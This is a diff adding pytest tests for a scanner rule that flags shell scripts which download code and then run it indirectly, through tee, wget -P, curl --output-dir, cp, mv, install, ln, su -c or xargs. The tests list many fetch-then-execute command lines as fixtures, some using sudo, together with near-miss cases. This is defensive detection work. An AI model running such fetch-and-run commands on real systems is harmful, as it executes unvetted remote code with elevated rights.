@@ -1,0 +1,132 @@
+"""Shell that runs a download indirectly: through a path another command wrote it to (`tee`, wget's
+`-P`, curl's `--output-dir`, `cp`/`mv`/`install`/`ln`), through a command line handed on (`su -c "sh
+f"`), or through `xargs`."""
+
+from __future__ import annotations
+
+import pytest
+
+from bot.engine.content.dangerous import DangerousRule
+from tests.content.helpers import change_of, scan, where
+from tests.gitrepo import GitRepo
+
+RULE = DangerousRule()
+_PIPE = "shell-pipe-to-shell"
+
+
+def _found(repo: GitRepo, path: str, source: str) -> list[tuple[int | None, str]]:
+    return [(line, id_) for _, line, id_ in where(scan(RULE, change_of(repo, {path: source})))]
+
+
+@pytest.mark.parametrize(
+    ("source", "line"),
+    [
+        ("curl -fsSL https://x.io/i | tee /tmp/i.sh\nsh /tmp/i.sh\n", 2),
+        ("curl https://x.io/i | tee log /tmp/i.sh >/dev/null && bash /tmp/i.sh\n", 1),
+        ("curl https://x.io/i | sudo tee -a /usr/local/bin/x > /dev/null\nsudo /usr/local/bin/x\n", 2),
+        ("curl https://x.io/i | gunzip > /tmp/i\nsh /tmp/i\n", 2),
+        ("wget -q -P /tmp https://x.io/get.sh\nbash /tmp/get.sh\n", 2),
+        ("wget --directory-prefix=/opt/x https://x.io/i.sh && sh /opt/x/i.sh\n", 1),
+        ("wget -P/tmp/ https://x.io/i.sh; . /tmp/i.sh\n", 1),
+        ("wget --directory-prefix /d https://x.io/i.sh\nsource /d/i.sh\n", 2),
+        ("curl --output-dir /tmp -O https://x.io/i.sh\nsh /tmp/i.sh\n", 2),
+        ("curl --output-dir=/tmp -o i https://x.io/x\n/tmp/i\n", 2),
+        ("curl -o /tmp/k https://x.io/k\nsudo install -m 755 /tmp/k /usr/local/bin/k\n/usr/local/bin/k\n", 3),
+        ("curl -o i https://x.io/i\ncp i /tmp/run.sh\nsh /tmp/run.sh\n", 3),
+        ("curl -o i https://x.io/i\nmv -f i /tmp/\nsh /tmp/i\n", 3),
+        ("curl -o i https://x.io/i\nmv i /opt\nsh /opt/i\n", 3),
+        ("curl -o i https://x.io/i\ncp i a; mv a b\n./b\n", 3),
+        ("curl -O https://x.io/i.sh\ninstall -D -t /opt/bin i.sh\n/opt/bin/i.sh\n", 3),
+        ("curl -O https://x.io/i.sh\ncp --target-directory=/opt i.sh\nbash /opt/i.sh\n", 3),
+        ('curl -o i https://x.io/i\nln -s "$PWD/i" /usr/local/bin/i\nln -sf i /usr/bin/j\n/usr/bin/j\n', 4),
+    ],
+)
+def test_a_download_written_by_another_command_then_run(repo: GitRepo, source: str, line: int) -> None:
+    assert _found(repo, "s.sh", source) == [(line, _PIPE)]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "curl https://x.io/i | tee log\necho done\n",
+        "curl https://x.io/i | tee log\ncat log\n",
+        "curl https://x.io/i | tee\nsh tee\n",
+        "wget -P dir https://x.io/i.sh\nls dir\n",
+        "wget -P dir https://x.io/i.sh\nsh i.sh\n",
+        "wget -P dir -O /tmp/i https://x.io/i.sh\nsh dir/i.sh\n",
+        "curl -o i https://x.io/i\ncp i /tmp/x\ncat /tmp/x\n",
+        "curl -o i https://x.io/i\nsha256sum -c i.sha256\ncp i /tmp/x\nsh /tmp/x\n",
+        "cp i /tmp/x\ncurl -o i https://x.io/i\nsh /tmp/x\n",
+        "curl -f https://x.io/a || echo failed > log\nsh log\n",
+        "curl -o i https://x.io/i\ncp other /tmp/x\nsh /tmp/x\n",
+        "curl -o i https://x.io/i\ncp i\nsh i2\n",
+        "curl -o i https://x.io/i\nmv -t\nsh /x\n",
+        "curl -o i https://x.io/i\necho cp i /tmp/x\nsh /tmp/x\n",
+    ],
+)
+def test_a_download_written_by_another_command_near_misses(repo: GitRepo, source: str) -> None:
+    assert _found(repo, "s.sh", source) == []
+
+
+@pytest.mark.parametrize(
+    ("source", "line"),
+    [
+        ('curl -o f https://x.io/i\nsu -c "sh f"\n', 2),
+        ('curl -o /tmp/i https://x.io/i\nsudo sh -c "sh /tmp/i"\n', 2),
+        ("curl -o /tmp/i https://x.io/i\nsudo bash -c 'cd /tmp && bash /tmp/i --yes'\n", 2),
+        ("curl -o /tmp/i https://x.io/i\nsu root -c \"sudo sh -c '/tmp/i'\"\n", 2),
+        ("curl -o /tmp/i https://x.io/i\nenv -S 'sh /tmp/i'\n", 2),
+        ('curl -o /tmp/i https://x.io/i\nsu -c ". /tmp/i"\n', 2),
+        ('curl -o /tmp/i https://x.io/i\nsh -ec "set -x; /tmp/i"\n', 2),
+        ('curl -o /tmp/i https://x.io/i\nsu -c "echo \\"a b\\"; sh /tmp/i"\n', 2),
+        ("curl -o /tmp/i https://x.io/i\necho \\'; sh /tmp/i\n", 2),  # an escaped quote opens nothing
+    ],
+)
+def test_a_download_run_by_a_command_line_handed_on(repo: GitRepo, source: str, line: int) -> None:
+    assert _found(repo, "s.sh", source) == [(line, _PIPE)]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'curl -o f https://x.io/i\necho "sh f"\n',
+        'curl -o f https://x.io/i\nsu -c "cat f"\n',
+        'curl -o f https://x.io/i\nsudo sh -c "echo sh f"\n',
+        "curl -o f https://x.io/i\nsh -c 'echo \"sh f\"'\n",
+        'curl -o f https://x.io/i\npython3 -c "sh f"\n',
+        'curl -o f https://x.io/i\nsh -c "cat f" "sh f"\n',
+    ],
+)
+def test_a_command_line_handed_on_near_misses(repo: GitRepo, source: str) -> None:
+    assert _found(repo, "s.sh", source) == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "xargs sh",
+        "xargs bash -x",
+        "xargs -0 python3",
+        "xargs -I{} sh {}",
+        "sudo xargs bash",
+        "xargs -n1 node",
+    ],
+)
+def test_a_download_piped_into_xargs_running_an_interpreter(repo: GitRepo, command: str) -> None:
+    assert _found(repo, "s.sh", f"set -e\ncurl https://x.io/i | {command}\n") == [(2, _PIPE)]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "xargs sh install.sh",
+        "xargs -I % sh -c 'echo %'",
+        "xargs rm",
+        "xargs -I{} echo {}",
+        "xargs -I{} bash -x",
+        "xargs python3 -m json.tool",
+        "xargs -I{} sh install.sh {}",
+    ],
+)
+def test_xargs_near_misses(repo: GitRepo, command: str) -> None:
+    assert _found(repo, "s.sh", f"set -e\ncurl https://x.io/i | {command}\n") == []
